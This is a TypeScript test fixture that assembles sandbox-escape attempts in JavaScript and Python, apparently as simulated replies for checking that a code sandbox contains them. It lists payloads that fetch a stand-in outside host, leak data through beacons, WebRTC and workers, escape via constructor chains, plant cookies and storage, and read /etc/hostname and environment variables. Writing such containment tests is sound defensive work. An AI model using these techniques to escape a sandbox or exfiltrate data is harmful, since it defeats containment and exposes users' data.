// Policies that try to reach a server, the site, its storage or the page, in both languages.
import { asPolicy, networkAttacks, storageAttacks } from '../../sandbox/attacks.ts';
import { asPythonPolicy, pythonAttacks } from '../../sandbox/python-attacks.ts';
import { fenced, type ReplyGroup, type Targets } from './reply.ts';

/** Beside those that the sandbox's own tests know. HTTP aims at this machine; the outside host goes through the proxy. */
const moreJavascript: Readonly<Record<string, string>> = {
  'a host outside': "await fetch('http://outside.example/javascript')",
  'an image': 'new Image().src = HTTP; const i = document.createElement("img"); i.src = HTTP',
  sendBeacon: 'navigator.sendBeacon(HTTP, "secret")',
  navigation: 'self.location = HTTP; self.location.href = HTTP; location.assign(HTTP); open(HTTP)',
  WebRTC:
    "const c = new RTCPeerConnection({ iceServers: [{ urls: HTTP.replace('http://', 'stun:') }] }); c.createDataChannel('x'); await c.setLocalDescription()",
  WebTransport: 'new WebTransport(HTTP.replace("http", "https"))',
  'a shared worker': 'new SharedWorker(APP)',
  'a service worker': 'await navigator.serviceWorker.register(APP)',
  fetchLater: 'fetchLater(HTTP)',
  WebSocketStream: 'new WebSocketStream(WS)',
  'a stylesheet': "await import(HTTP + '.css', { with: { type: 'css' } })",
  'a JSON module': "await import(HTTP + '.json', { with: { type: 'json' } })",
  'the constructor of everything': "await (function () {}).constructor.constructor('return this')().fetch(HTTP)",
  'another realm':
    "await (new (Object.getPrototypeOf(async function () {}).constructor)('a', 'return fetch(a)'))(HTTP)",
  'WebAssembly with an imported fetch':
    'const i = await WebAssembly.instantiate(new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,2,7,1,1,97,1,98,0,0,8,1,0]), { a: { b: () => fetch(HTTP) } })',
};
const morePage: Readonly<Record<string, string>> = {
  'the parent page': "parent.document.title = 'stolen'; top.location = HTTP",
  localStorage: "localStorage.setItem('stolen', '1'); sessionStorage.setItem('stolen', '1')",
  cookies: "document.cookie = 'stolen=1'; await cookieStore.set('stolen', '1')",
  'a message to the page':
    "postMessage('sandbox-hello'); self.postMessage({ n: 1, op: 'kill' }); parent.postMessage('sandbox-hello', '*')",
  'an opener': 'opener.location = HTTP; self.frames[0].location = HTTP',
  'every global that can be called':
    "for (const k of Object.getOwnPropertyNames(globalThis)) try { if (typeof globalThis[k] === 'function' && !/^(Atomics|sleep)/.test(k)) globalThis[k](HTTP) } catch {}",
  'the clipboard and the device': 'await navigator.clipboard.readText(); await navigator.usb.getDevices()',
};
const morePython: Readonly<Record<string, string>> = {
  'a host outside': "import js\njs.fetch('http://outside.example/python')",
  micropip: 'import asyncio, micropip\nasyncio.ensure_future(micropip.install(HTTP + "-1.0-py3-none-any.whl"))',
  requests: 'import requests\nrequests.get(HTTP)',
  'an XMLHttpRequest in ctypes':
    "import ctypes\nf = ctypes.CDLL(None).emscripten_async_wget\nf(HTTP.encode(), b'x', 0, 0)",
  'importing js from sys.modules':
    "import sys\nsys.modules['js'].fetch(HTTP)\nsys.modules['_pyodide_core'].fetch(HTTP)",
  'the page': "import js\njs.parent.document.title = 'stolen'\njs.self.postMessage('sandbox-hello')",
  storage: "import js\njs.indexedDB.open('stolen')\njs.localStorage.setItem('stolen', '1')\njs.caches.open('stolen')",
  'an IDBFS mount':
    "import pyodide_js\npyodide_js.FS.mkdir('/m')\npyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, {}, '/m')\npyodide_js.FS.syncfs(False, print)",
  'the files of the machine': "print(open('/etc/hostname').read())\nimport os\nprint(os.environ, os.listdir('/'))",
  'a nested worker': 'import js\njs.eval("new Worker(\'data:text/javascript,fetch(1)\')")\njs.Worker.new(HTTP)',
};

const javascript = ({ leakPort, site }: Targets): ReplyGroup[] => {
  const make = (kind: string, attacks: readonly { readonly name: string; readonly code: string }[]) =>
    attacks.map(({ name, code }, i) => {
      const mark = `${kind}-${i}`;
      const host = `127.0.0.1:${leakPort}`;
      const policy = asPolicy(code, {
        HTTP: `http://${host}/${mark}`,
        WS: `ws://${host}/${mark}`,
        APP: `${site}stolen-${mark}.js`,
      });
      return { name: `javascript: ${name}`, text: fenced(policy) };
    });
  const listed = (record: Readonly<Record<string, string>>) =>
    Object.entries(record).map(([name, code]) => ({ name, code }));
  return [
    {
      about: 'reach for a network',
      short: 8,
      replies: make('network', [...listed(moreJavascript), ...networkAttacks]),
    },
    {
      about: 'reach for storage or the page',
      short: 5,
      replies: make('page', [...listed(morePage), ...storageAttacks]),
    },
  ];
};

const python = ({ leakPort }: Targets): ReplyGroup[] => {
  const listed = Object.entries(morePython).map(([name, code]) => ({ name, code }));
  const replies = [...listed, ...pythonAttacks].map(({ name, code }, i) => ({
    name: `python: ${name}`,
    text: fenced(asPythonPolicy(code, { host: '127.0.0.1', port: leakPort, mark: `python-${i}` }), 'python'),
  }));
  return [{ about: 'reach for a network, storage or the page', short: 6, replies }];
};

export const waysOut = { javascript, python };
